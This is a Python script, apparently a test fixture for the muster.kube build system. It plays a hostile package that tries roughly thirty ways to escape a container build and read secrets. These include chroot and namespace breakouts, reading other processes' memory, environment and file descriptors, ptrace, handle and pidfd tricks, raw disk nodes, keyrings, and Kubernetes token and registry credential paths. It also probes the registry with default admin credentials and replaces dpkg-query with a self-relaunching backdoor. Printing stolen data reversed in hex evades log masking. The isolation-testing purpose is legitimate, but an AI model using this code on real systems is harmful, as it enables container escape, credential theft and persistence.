# Copyright (c) 2026, The muster.kube authors
# GNU General Public License v3.0 or later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a hostile package does when it is installed: it looks for secrets of the build that are not its own.

Each attempt runs in a process of its own and prints one line: what was refused, or what it got. Whatever it got is
printed as it is, and backwards in hexadecimal digits, which nobody masks. Nothing here harms the machine: devices and
files of the kernel are only opened.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import pathlib
import re
import signal
import socket
import struct
import sys
import time
import typing as t
import urllib.request

WANTED = (
    "muster/auth/push/config.json",
    "muster/auth/pull/config.json",
    "muster/secrets/index",
    "muster/private/masks",
    "muster/out/index.json",
    "run/secrets/index",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
)
SECONDS = 20
LARGE = 4096
LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER = 0x20000, 0x10000000
ATTEMPTS: list[t.Callable[[], bytes]] = []


def attempt(function: t.Callable[[], bytes]) -> t.Callable[[], bytes]:
    """One of the ways to a secret."""
    ATTEMPTS.append(function)
    return function


def call(name: str, *arguments: t.Any) -> int:
    """A function of libc; OSError when it is refused."""
    result = getattr(LIBC, name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return int(result)


def system(number: int, *arguments: t.Any) -> int:
    """A system call by its number."""
    return call("syscall", number, *arguments)


def found_below(root: str) -> bytes:
    """Everything that is wanted below a folder."""
    got, why = b"", ""
    for name in WANTED:
        try:
            got += pathlib.Path(root, name).read_bytes()
        except OSError as error:
            why = str(error)
    if not got:
        raise OSError(why)
    return got


def others() -> list[int]:
    """All other processes."""
    return [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]


def of_any(read: t.Callable[[int], bytes]) -> bytes:
    """What can be read of some process; the reason of the last refusal when of none."""
    got, why = b"", "no other process is seen"
    for pid in others():
        try:
            got += read(pid)
        except (OSError, ValueError) as error:
            why = f"{pid}: {error}"
    if not got:
        raise OSError(why)
    return got


def up_and_read() -> bytes:
    """Climb as far as it goes from where the process stands."""
    for _step in range(64):
        os.chdir("..")
    return found_below(".")


@attempt
def plain_paths() -> bytes:
    return found_below("/")


@attempt
def chroot_twice() -> bytes:
    os.makedirs("/tmp/inner", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/inner")
    os.fchdir(outside)
    return up_and_read()


@attempt
def user_namespace_then_chroot() -> bytes:
    call("unshare", NEWUSER)
    return chroot_twice()


@attempt
def user_namespace_then_mount() -> bytes:
    call("unshare", NEWUSER | NEWNS)
    os.makedirs("/tmp/all", exist_ok=True)
    call("mount", b"/proc/1/root", b"/tmp/all", None, 0x1000 | 0x4000, None)
    return found_below("/tmp/all")


@attempt
def roots_of_processes() -> bytes:
    return of_any(lambda pid: found_below(f"/proc/{pid}/root") if pid_is_foreign(pid) else b"")


def pid_is_foreign(pid: int) -> bool:
    """Whether a process has another root, as far as one may know."""
    return os.stat(f"/proc/{pid}/root/").st_ino != os.stat("/").st_ino


@attempt
def folders_of_processes() -> bytes:
    return of_any(lambda pid: found_below(f"/proc/{pid}/cwd" + "/.." * 32))


@attempt
def environments_of_processes() -> bytes:
    return of_any(lambda pid: pathlib.Path(f"/proc/{pid}/environ").read_bytes())


@attempt
def arguments_of_processes() -> bytes:
    return of_any(lambda pid: pathlib.Path(f"/proc/{pid}/cmdline").read_bytes())


@attempt
def files_of_processes() -> bytes:
    def read(pid: int) -> bytes:
        got = b""
        for name in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{name}"
            with contextlib.suppress(OSError):
                got += os.readlink(path).encode() + b" "
                if os.path.isdir(path):
                    got += found_below(path + "/.." * 32)
                elif os.path.isfile(path):
                    got += pathlib.Path(path).read_bytes()[:65536]
        return got

    return of_any(read)


@attempt
def folders_left_open() -> bytes:
    for name in os.listdir("/proc/self/fd"):
        if os.path.isdir(f"/proc/self/fd/{name}") and not os.readlink(f"/proc/self/fd/{name}").startswith("/proc"):
            os.fchdir(int(name))
            return up_and_read()
    raise OSError("no folder was left open")


@attempt
def memory_of_processes() -> bytes:
    def read(pid: int) -> bytes:
        got = b""
        with open(f"/proc/{pid}/mem", "rb", 0) as memory, open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if "[heap]" in line or "[stack]" in line:
                    memory.seek(low)
                    got += memory.read(min(high - low, 1 << 20))
        return got

    return of_any(read)


@attempt
def ptrace() -> bytes:
    def read(pid: int) -> bytes:
        # Seize does not stop the process; it may be one of this very step.
        call("ptrace", 0x4206, pid, None, None)
        return b"ptrace is allowed: " + str(pid).encode()

    return of_any(read)


@attempt
def memory_by_system_call() -> bytes:
    def read(pid: int) -> bytes:
        room = ctypes.create_string_buffer(4096)
        start = int(pathlib.Path(f"/proc/{pid}/maps").read_text(encoding="utf-8").split("-")[0], 16)
        local, remote = struct.pack("PN", ctypes.addressof(room), 4096), struct.pack("PN", start, 4096)
        system(310, pid, local, 1, remote, 1, 0)
        return room.raw

    return of_any(read)


@attempt
def files_by_pidfd() -> bytes:
    def read(pid: int) -> bytes:
        handle, got = os.pidfd_open(pid), b""
        for number in range(64):
            with contextlib.suppress(OSError):
                taken = system(438, handle, number, 0)
                got += b"a file of another process "
                got += found_below(f"/proc/self/fd/{taken}" + "/.." * 32)
        return got

    return of_any(read)


@attempt
def namespaces_of_processes() -> bytes:
    def read(pid: int) -> bytes:
        call("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), NEWNS)
        return found_below("/")

    return of_any(read)


@attempt
def handles() -> bytes:
    handle = struct.pack("IiQ", 8, 1, 2)
    os.fchdir(system(304, os.open("/etc/hostname", os.O_RDONLY), handle, os.O_RDONLY))
    return found_below(".")


@attempt
def device_nodes() -> bytes:
    lines = pathlib.Path("/proc/partitions").read_text(encoding="utf-8").splitlines()[2:]
    for line in lines or ["8 0 0 sda"]:
        major, minor = (int(word) for word in line.split()[:2])
        os.mknod(f"/tmp/node-{major}-{minor}", 0o60600, os.makedev(major, minor))
        with open(f"/tmp/node-{major}-{minor}", "rb") as device:
            return b"a disk can be read: " + device.read(16)
    raise OSError("there is no disk")


@attempt
def devices_that_are_there() -> bytes:
    for name in ("mem", "kmsg", "sda", "vda", "nvme0n1", "fuse"):
        if os.path.exists(f"/dev/{name}"):
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
            return f"/dev/{name} can be read".encode()
    raise OSError("none of them is there")


@attempt
def mounts() -> bytes:
    os.makedirs("/tmp/mounted", exist_ok=True)
    for kind in (b"proc", b"sysfs", b"devtmpfs", b"tmpfs"):
        call("mount", kind, b"/tmp/mounted", kind, 0, None)
    return b"file systems can be mounted"


@attempt
def what_mounts_hide() -> bytes:
    for place in (b"/run/secrets", b"/proc", b"/sys", b"/dev", b"/"):
        call("umount2", place, 2)
    return found_below("/")


@attempt
def clone_of_the_tree() -> bytes:
    os.fchdir(system(428, -100, b"/..", 1 | 0x8000))
    return found_below(".")


@attempt
def pivot_root() -> bytes:
    os.makedirs("/tmp/new/old", exist_ok=True)
    system(155, b"/tmp/new", b"/tmp/new/old")
    return found_below("/old")


@attempt
def keyrings() -> bytes:
    got = b""
    for ring in (-1, -2, -3, -4, -5):
        room = ctypes.create_string_buffer(4096)
        size = system(250, 11, ring, room, 4096, 0)
        for number in struct.unpack(f"{size // 4}i", room.raw[: size // 4 * 4]):
            inner = ctypes.create_string_buffer(65536)
            got += inner.raw[: max(0, system(250, 11, number, inner, 65536, 0))]
    if not got:
        raise OSError("the keyrings are empty")
    return got


@attempt
def own_environment() -> bytes:
    return repr(sorted(os.environ.items())).encode()


@attempt
def links_to_secrets() -> bytes:
    os.makedirs("/stolen", exist_ok=True)
    for number, name in enumerate(WANTED):
        for climb in ("/", "/../" * 8, "/proc/1/root/"):
            link = f"/stolen/{number}-{len(climb)}"
            if not os.path.lexists(link):
                os.symlink(climb + name, link)
    got = b""
    for link in os.scandir("/stolen"):
        if os.path.isfile(link.path) and "run/secrets" not in os.readlink(link.path):
            got += pathlib.Path(link.path).read_bytes()
    if not got:
        raise OSError("the links lead nowhere here")
    return got


@attempt
def hard_links_to_secrets() -> bytes:
    os.link("/proc/1/root/muster/auth/push/config.json", "/stolen-hard", follow_symlinks=True)
    return pathlib.Path("/stolen-hard").read_bytes()


@attempt
def sockets_of_the_runtime() -> bytes:
    with open("/proc/net/unix", encoding="utf-8") as listing:
        names = {line.split()[-1] for line in listing if "containerd" in line or "docker" in line or "crio" in line}
    for name in names:
        with socket.socket(socket.AF_UNIX) as made:
            made.connect("\0" + name[1:] if name.startswith("@") else name)
            return b"a socket of the runtime answers"
    raise OSError("no socket of the runtime is seen")


@attempt
def the_registry() -> bytes:
    address = f"http://{os.environ['REGISTRY']}/v2/_catalog"
    for account in ("Og==", "YWRtaW46YWRtaW4="):
        request = urllib.request.Request(address, headers={"Authorization": f"Basic {account}"})
        with urllib.request.urlopen(request, timeout=5) as answer:
            return answer.read(4096) + repr(answer.headers.items()).encode()
    raise OSError("it does not answer")


@attempt
def files_of_the_kernel() -> bytes:
    for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
        os.close(os.open(name, os.O_WRONLY))
        return f"{name} can be written".encode()
    raise OSError("none can be written")


@attempt
def a_command_of_the_package_list() -> bytes:
    """Not a secret by itself: the next time somebody lists packages, all of this runs once more."""
    if sys.argv[1:] == ["again"]:
        raise OSError("it is under way")
    program = pathlib.Path("/usr/bin/dpkg-query")
    program.write_text("#!/bin/sh\nexec python3 /hostile_package.py again\n", encoding="utf-8")
    program.chmod(0o755)
    raise OSError("it waits for the list of packages")


def worth_keeping(got: bytes) -> bytes:
    """All of a small find; of a large one only what stands around the words that secrets of a build have."""
    if len(got) <= LARGE:
        return got
    found = re.finditer(rb"push-|pull-|index-|\"auth\"|bWU6|://me:", got)
    return b" ".join(got[max(0, match.start() - 100) : match.end() + 200] for match in found)[: 4 * LARGE]


def one(function: t.Callable[[], bytes]) -> None:
    """Make one attempt and tell what came of it."""
    name = function.__name__
    try:
        got = function()
    except (OSError, LookupError, TypeError, ValueError) as error:
        print(f"{name}: refused: {error}", flush=True)
        return
    print(f"{name}: GOT {len(got)} bytes", flush=True)
    kept = worth_keeping(got)
    for text in (kept.decode("latin-1"), kept[::-1].hex()):
        print("".join(character if character.isprintable() else " " for character in text), flush=True)


def main() -> None:
    """All attempts, each in its own process and for a short time only."""
    for function in ATTEMPTS:
        pid = os.fork()
        if pid == 0:
            signal.alarm(SECONDS)
            one(function)
            os._exit(0)
        os.waitpid(pid, 0)
    print(f"{len(ATTEMPTS)} attempts at {time.time():.0f}", flush=True)


if __name__ == "__main__":
    main()
